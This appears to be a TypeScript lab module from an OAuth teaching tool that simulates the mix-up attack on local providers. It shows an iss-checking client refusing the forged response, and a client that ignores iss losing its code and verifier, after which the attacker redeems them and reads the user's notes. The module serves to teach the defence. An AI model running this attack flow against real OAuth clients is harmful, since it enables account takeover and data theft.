/**
 * Lab: mix-up (RFC 9700 §4.4). The client knows two providers: the honest
 * one, and one run by the attacker. The user picks the attacker's; its
 * authorization endpoint sends her browser on to the honest provider's, with
 * the client's client_id there and the same state and code_challenge
 * (RFC 9700 §4.4.1). She signs in there the usual way, and the code comes back to
 * the client — which would send it, with its code_verifier, to the token
 * endpoint of the provider she picked. This client checks iss (RFC 9207 §2.4)
 * and refuses; the extra shows a client that ignores iss losing the code.
 */
import { checkAuthorizationResponse } from '../authorization-response.js';
import type { ReceivedCallback } from '../callback-server.js';
import { playConsent } from '../consent-bot.js';
import { endpointsFrom, type Endpoints } from '../engine/endpoints.js';
import { required, type Session } from '../engine/session.js';
import type { StepRecord } from '../engine/types.js';
import { formBody, jsonOf } from '../exchange.js';
import { createVerifier, randomToken, s256 } from '../pkce.js';
import { callbackExchange, checkCallback, followRedirect } from '../grants/authorization.js';
import { useClient } from '../grants/register.js';
import type { AttackHook } from './hook.js';

interface Honest {
  ep: Endpoints;
  clientId: string;
}

const honest = new WeakMap<Session, Honest>();

async function registerAt(
  s: Session,
  rec: StepRecord,
  issuer: string,
  who: string,
): Promise<{ ep: Endpoints; clientId: string }> {
  const meta = await s.call(
    {
      method: 'GET',
      url: `${issuer}/.well-known/openid-configuration`,
      headers: { accept: 'application/json' },
    },
    `discovery at ${who}`,
  );
  const ep = endpointsFrom(jsonOf(meta) ?? {}, issuer);
  const reg = await s.call(
    {
      method: 'POST',
      url: ep.registration ?? `${issuer}/register`,
      headers: { 'content-type': 'application/json', accept: 'application/json' },
      body: JSON.stringify({
        client_name: 'oauth-tutor notes app',
        redirect_uris: [s.redirectUri],
        token_endpoint_auth_method: 'none',
        grant_types: ['authorization_code'],
        scope: 'openid profile notes.read',
      }),
    },
    `the app registers at ${who} (a public client: a native app, no secret)`,
  );
  rec.exchanges.push(meta, reg);
  const id = jsonOf(reg)?.['client_id'];
  if (reg.response.status !== 201 || typeof id !== 'string')
    return s.fail(
      `registration at ${who} failed with ${reg.response.status}`,
      'Run the lab again.',
    );
  return { ep, clientId: id };
}

/**
 * The user picks the attacker's provider; its authorization endpoint forwards her browser to the honest one
 * with the client's client_id there (the attacker knows it: it is public). Returns the callback the client gets.
 */
async function attack(
  s: Session,
  rec: StepRecord | undefined,
  state: string,
  verifier: string,
): Promise<ReceivedCallback> {
  const h = required(honest.get(s), "the honest provider's registration");
  const chosen = {
    response_type: 'code',
    client_id: s.clientId,
    redirect_uri: s.redirectUri,
    scope: 'openid profile notes.read',
    state,
    code_challenge: s256(verifier),
    code_challenge_method: 'S256',
  };
  const forwarded = { ...chosen, client_id: h.clientId };
  const url = `${h.ep.authorize}?${new URLSearchParams(forwarded)}`;
  if (rec !== undefined) {
    rec.facts = Object.entries(chosen).map(([name, value]) => ({
      name,
      value,
      meaning:
        name === 'client_id'
          ? "the app's client_id at the attacker's provider, the one the user picked"
          : '',
    }));
    rec.notes.push(
      `the user picks the attacker's provider in the app; the app sends her browser to ${s.ep.authorize}`,
    );
    rec.notes.push(
      `ATTACK: the attacker's authorization endpoint forwards her browser to the honest provider, ${h.ep.authorize}, with client_id ${h.clientId} (the app's id there) and the same state and code_challenge`,
    );
    rec.notes.push(
      'she signs in at the honest provider as she always does: it is a real sign-in, for an app she knows',
    );
  }
  const account = s.account();
  const { location } = await playConsent(url, {
    username: account?.username ?? 'alice',
    password: account?.password ?? '',
  });
  return followRedirect(s, location);
}

export const mixUpLab: AttackHook = {
  name: 'mix-up',
  publicClient: true,
  provider: { attacker: true },
  steps: {
    replace: {
      register: {
        id: 'register',
        async run(s, rec) {
          const attackerIssuer = s.opts.provider?.attacker?.issuer;
          if (s.opts.provider === undefined || attackerIssuer === undefined)
            return s.fail(
              'the mix-up lab needs two providers',
              'Run it through `oauth-tutor flow --attack mix-up`, which starts both.',
            );
          const h = await registerAt(s, rec, s.opts.provider.issuer, 'the honest provider');
          honest.set(s, h);
          const a = await registerAt(s, rec, attackerIssuer, "the attacker's provider");
          // The session the user starts is with the attacker's provider: that is where the client will send the code.
          s.ep = a.ep;
          s.t.issuer = a.ep.issuer;
          useClient(s, a.clientId, undefined);
          rec.notes.push(
            `the app lets its users sign in with either of two providers: the honest one (${h.ep.issuer}, client_id ${h.clientId}) and another one (${a.ep.issuer}, client_id ${a.clientId}) — which the attacker runs`,
          );
          rec.notes.push(
            'one redirect URI for both: the response itself must say which provider it comes from',
          );
          return rec;
        },
      },
      authorize: {
        id: 'authorize',
        async run(s, rec) {
          s.state = randomToken(16);
          s.verifier = createVerifier();
          s.secrets.secret(s.verifier);
          await checkCallback(s, await attack(s, rec, s.state, s.verifier));
          return rec;
        },
      },
      callback: {
        id: 'callback',
        async run(s, rec) {
          const checked = required(s.checked, 'the checked callback');
          rec.exchanges.push(
            callbackExchange(
              s,
              "the callback: the honest provider's code, its iss, and the state the attacker passed along",
            ),
          );
          rec.notes.push(...checked.notes);
          rec.notes.push(
            !checked.ok && checked.failed === 'iss'
              ? `the client refused it (HTTP ${required(s.answer, "the callback's answer to the browser").status} to the browser): iss names the honest provider, but this sign-in was started with ${s.ep.issuer}; the code was sent nowhere`
              : 'the client accepted the response (!)',
          );
          return rec;
        },
      },
    },
    after: {
      callback: [
        async (s) => {
          const checked = required(s.checked, 'the checked callback');
          const refused = !checked.ok && checked.failed === 'iss';
          const evidence = checked.ok ? 'accepted' : checked.message;
          const status = required(s.answer, "the callback's answer to the browser").status;
          const h = required(honest.get(s), "the honest provider's registration");
          const x = s.extra('The same attack against a client that ignores iss');
          const state = randomToken(16);
          const verifier = createVerifier();
          s.secrets.secret(verifier);
          x.notes.push('the same app, the same two providers, but this client checks only state');
          const got = await attack(s, undefined, state, verifier);
          const params = new URL(got.url).searchParams;
          params.delete('iss');
          const weak = checkAuthorizationResponse(params, {
            issuer: s.ep.issuer,
            issParameterSupported: false,
            state,
          });
          x.notes.push(
            ...weak.notes.map((n) =>
              n.replace(
                'no iss parameter (this provider does not support RFC 9207)',
                'iss ignored',
              ),
            ),
          );
          s.received = got;
          s.answer = got.reply({ ok: true });
          await s.browserDone;
          x.exchanges.push(
            callbackExchange(
              s,
              'the callback, accepted: the state matches (the attacker passed it along)',
            ),
          );
          let stolen = 'not reached';
          if (weak.ok) {
            const body = {
              grant_type: 'authorization_code',
              code: weak.code,
              redirect_uri: s.redirectUri,
              code_verifier: verifier,
              client_id: s.clientId,
            };
            const toAttacker = await s.call(
              { method: 'POST', url: s.ep.token, headers: s.headers, body: formBody(body) },
              "the client sends the code and its code_verifier to the token endpoint of the provider the user picked: the attacker's",
            );
            x.exchanges.push(toAttacker);
            x.notes.push(
              `the attacker's token endpoint now holds the code and the code_verifier (it answered ${toAttacker.response.status}; the damage is done either way)`,
            );
            const redeemed = await s.call(
              {
                method: 'POST',
                url: h.ep.token,
                headers: {
                  'content-type': 'application/x-www-form-urlencoded',
                  accept: 'application/json',
                },
                body: formBody({ ...body, client_id: h.clientId }),
              },
              'ATTACK: the attacker redeems them at the honest provider, as the app (a public client: no secret needed)',
            );
            x.exchanges.push(redeemed);
            const token = jsonOf(redeemed)?.['access_token'];
            if (redeemed.response.status === 200 && typeof token === 'string') {
              const notes = await s.call(
                {
                  method: 'GET',
                  url: h.ep.api,
                  headers: { authorization: `Bearer ${token}`, accept: 'application/json' },
                },
                "ATTACK: and reads the user's notes at the honest provider's API",
              );
              x.exchanges.push(notes);
              stolen = `the attacker redeemed the code at the honest provider (${redeemed.response.status}) and read ${String(jsonOf(notes)?.['sub'] ?? '?')}'s notes (${notes.response.status})`;
              x.notes.push(
                `MIX-UP SUCCEEDED: ${stolen}. PKCE did not help: the client handed over the verifier itself`,
              );
            } else {
              stolen = `redeeming failed: ${redeemed.response.status}`;
              x.notes.push(`the attacker could not redeem the code: ${redeemed.response.status}`);
            }
          }
          s.pushExtra(x);
          s.outcome(
            'mix-up',
            refused,
            `${evidence} (HTTP ${status} to the browser); a client that ignores iss: ${stolen}`,
          );
        },
      ],
    },
  },
};
